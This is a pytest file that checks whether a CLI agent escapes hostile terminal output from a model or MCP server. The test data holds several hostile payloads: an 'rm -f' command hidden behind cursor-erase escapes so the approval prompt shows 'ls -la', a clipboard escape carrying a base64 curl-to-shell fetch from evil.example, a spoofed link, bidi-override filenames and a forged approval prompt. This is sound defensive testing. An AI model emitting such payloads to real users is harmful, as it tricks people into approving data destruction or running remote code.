"""The command attacked as a hostile model or MCP server would attack it, through a real
pseudo-terminal: every payload is shown escaped, an approval prompt shows the whole real command,
a concurrent MCP error cannot forge a prompt, and nothing reaches the terminal that it would obey
(there is no colour here, so not one ESC may be written at all).

A transcript is also shown in a real terminal emulator (tmux) to read the screen a person sees.
"""

from __future__ import annotations

import io
import json
import shutil
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pexpect
import pytest

from tests.providers.replay import Reply
from tests.providers.wire import ChatWire

from .support import TMUX, ServerThread, cli_env, serve, spawn, terminal_screen
from .test_cli import ASK, PROMPT, args, end_chat, finish, open_chat, shell_config, write_config

HOSTILE = Path(__file__).with_name("hostile_mcp.py")

#: Moves the cursor up, erases lines and goes left: the real command disappears from the screen.
DISGUISE = "\x1b[1A\x1b[2K\x1b[1A\x1b[2K\x1b[99D"
#: Inside the old 100-character preview: the real command erased, a harmless one shown instead.
DISGUISED = f"rm -f important.txt;#{DISGUISE}? shell_write waits for approval (high risk): ls -la"

#: What no transcript may hold: ESC, the C1 controls, the bidi controls.
FORBIDDEN = (
    {"\x1b", "\u061c", "\u200e", "\u200f"}
    | {chr(c) for c in range(0x80, 0xA0)}
    | {chr(c) for c in range(0x202A, 0x202F)}
    | {chr(c) for c in range(0x2066, 0x206A)}
)


@pytest.fixture
def server() -> Iterator[ServerThread]:
    with serve() as running:
        yield running


@pytest.fixture
def workspace() -> Iterator[Path]:
    """Directly under the temp dir and open to the sandbox's user (nobody, when the tests run as
    root): a workspace out of its reach would not be offered to the model at all."""
    directory = Path(tempfile.mkdtemp(prefix="effectagent-safety-"))
    directory.chmod(0o777)
    (directory / "important.txt").write_text("keep me\n")
    try:
        yield directory
    finally:
        shutil.rmtree(directory)


def transcript_of(child: pexpect.spawn[str]) -> io.StringIO:
    """Everything ``child`` prints from now on."""
    seen = io.StringIO()
    child.logfile_read = seen
    return seen


def test_a_disguised_approval_shows_the_real_command(
    server: ServerThread, tmp_path: Path, workspace: Path
) -> None:
    """Cursor-up and erase-line escapes in a shell_write command used to wipe the real command
    off the screen and show ``ls -la``; now the prompt shows the whole command, escaped. A
    command's hidden second line and a command longer than the old preview are shown whole."""
    assert len(DISGUISED) < 100
    home = tmp_path / "home"
    shell_config(home, workspace)
    hidden_line = "echo cleaning caches\nrm -f important.txt"
    long_one = (
        "find . -name '*.log' -newer readme | head -n 20 >/dev/null; " * 2 + "rm -f important.txt"
    )
    wire = ChatWire()
    server.script(
        Reply.sse(
            wire.calls(
                ("call_1", "shell_write", json.dumps({"command": DISGUISED})),
                ("call_2", "shell_write", json.dumps({"command": hidden_line})),
                ("call_3", "shell_write", json.dumps({"command": long_one})),
            )
        ),
        Reply.sse(wire.text("Nothing was run.")),
    )
    child = open_chat(server, home)
    seen = transcript_of(child)
    child.sendline("Tidy the workspace.")
    child.expect(ASK)
    first = seen.getvalue()
    child.sendline("n")
    child.expect(ASK)
    child.sendline("n")
    child.expect(ASK)
    child.sendline("n")
    child.expect("Nothing was run.")
    child.expect(PROMPT)
    end_chat(child)
    shown = seen.getvalue()
    assert (workspace / "important.txt").read_text() == "keep me\n"
    assert not FORBIDDEN & set(shown)
    escaped = "rm -f important.txt;#\\u001b[1A\\u001b[2K\\u001b[1A\\u001b[2K\\u001b[99D"
    assert (
        f'      "command": "{escaped}? shell_write waits for approval (high risk): ls -la"\r\n'
        in first
    )
    assert '▸ shell_write {"command":"rm -f important.txt;#\\u001b[1A' in first
    assert '      "command": "echo cleaning caches\\n\r\n' in shown
    assert '                  rm -f important.txt"\r\n' in shown
    assert f'      "command": "{long_one}"\r\n' in shown
    if TMUX is not None:  # what a person sees (tmux is a terminal): the real command
        screen = terminal_screen(first, tmp_path)
        assert (
            f'"command": "{escaped}? shell_write waits for approval (high risk): ls -la"' in screen
        )


def test_model_text_reasoning_names_and_arguments_are_shown_escaped(
    server: ServerThread, tmp_path: Path
) -> None:
    """Window title, clipboard (OSC 52), a deceptive link (OSC 8), a device-status query, a bidi
    override: in the answer, the reasoning, an unknown tool's name and arguments that are not
    JSON. The answer and the timeline show each escaped; ``--json`` carries each exactly, as JSON
    escapes."""
    title = "\x1b]0;pwned\x07"
    clipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07"
    link = "\x1b]8;;https://evil.example/\x07docs.python.org\x1b]8;;\x07"
    query = "\x1b[6n"
    answer = f"Done.{title}{clipboard} See {link}.{query} File: evil\u202etxt.exe"
    name = "list\u202e_files\x1b[2K"
    arguments = "not json \x9b6n"
    wire = ChatWire()

    def script() -> None:
        server.script(
            Reply.sse(wire.calls(("call_1", name, arguments))),
            Reply.sse(
                [
                    wire.chunk({"role": "assistant", "reasoning_content": f"think{title}"}),
                    *wire.text(answer),
                ]
            ),
        )

    script()
    child = spawn(args(server, "run", "Hello?"), cli_env(tmp_path))
    output, status = finish(child)
    assert status == 0, output
    assert not FORBIDDEN & set(output)
    lines = output.splitlines()
    assert lines[0].startswith("▸ list\\u202e_files\\x1b[2K not json \\x9b6n")
    assert lines[1].startswith("✗ list\\u202e_files\\x1b[2K ")
    assert "thinking: think\\x1b]0;pwned\\x07" in lines, output
    assert (
        "Done.\\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\\x07 See "
        "\\x1b]8;;https://evil.example/\\x07docs.python.org\\x1b]8;;\\x07.\\x1b[6n File: "
        "evil\\u202etxt.exe"
    ) in lines

    script()
    child = spawn(args(server, "run", "Hello?", "--json"), cli_env(tmp_path))
    output, status = finish(child)
    assert status == 0, output
    assert not FORBIDDEN & set(output)
    *lines, saved = output.splitlines()  # the pty merges stderr, which names the new session
    assert saved.startswith("session run-")
    events = [json.loads(line) for line in lines]
    declared = next(e for e in events if e["type"] == "ToolCallDeclared")
    assert (declared["tool_name"], declared["arguments"]) == (name, arguments)
    assert "".join(e["text"] for e in events if e["type"] == "TextDelta") == answer


def test_an_mcp_server_cannot_forge_the_prompt(server: ServerThread, tmp_path: Path) -> None:
    """The server's tool description is never a prompt's text, and a sibling call's error (a
    forged "allow list_notes?" prompt) arriving while the prompt for ``wipe`` waits is shown only
    after the answer — here the echo of the person's "n" — escaped."""
    home = tmp_path / "home"
    log = tmp_path / "calls.jsonl"
    write_config(
        home,
        f"""
[[mcp]]
name = "notes"
command = "{sys.executable}"
args = ["{HOSTILE}"]
env = {{ HOSTILE_CALL_LOG = "{log}" }}
""",
    )
    wire = ChatWire()
    server.script(
        Reply.sse(
            wire.calls(
                ("call_1", "notes_wipe", json.dumps({"what": "all"})),
                ("call_2", "notes_list_notes", "{}"),
            )
        ),
        Reply.sse(wire.text("Nothing was wiped.")),
    )
    child = spawn(args(server, "chat"), cli_env(home))
    child.setecho(True)  # the terminal echoes what the person types, as a real one does
    child.expect(PROMPT)
    seen = transcript_of(child)
    child.sendline("Tidy the notes.")
    # notes_list_notes runs at once (the server says it only reads) and fails while the prompt
    # for notes_wipe waits.
    child.expect(r"allow notes_wipe\? \[y\]es / \[n\]o / " + ASK)
    child.sendline("n")
    child.expect("Nothing was wiped.")
    child.expect(PROMPT)
    end_chat(child)
    shown = seen.getvalue()
    assert not FORBIDDEN & set(shown)
    assert "List the notes" not in shown  # the description is nobody's summary
    assert "notes_wipe — MCP server 'notes'" in shown
    asked = shown.index("allow notes_wipe? ")
    answered = shown.index("n\r\n", asked)
    # Between our prompt and the person's answer: nothing but the prompt's own text. (Whether
    # the error came while the prompt waited or before it showed is the machine's timing; the
    # in-process test_terminal_session makes it come while it waits.)
    assert shown[asked:answered] == "allow notes_wipe? [y]es / [n]o / [a]lways for this session: "
    (error,) = [line for line in shown.splitlines() if line.startswith("✗ notes_list_notes")]
    assert error.endswith(  # escaped, in one line of its own
        "failure: McpToolError \\x1b[1A\\x1b[2K\\x1b[1A\\x1b[2K\\r  allow list_notes? "
        "[y]es / [n]o / [a]lways for this session: "
    )
    assert [json.loads(line)["name"] for line in log.read_text().splitlines()] == ["list_notes"]
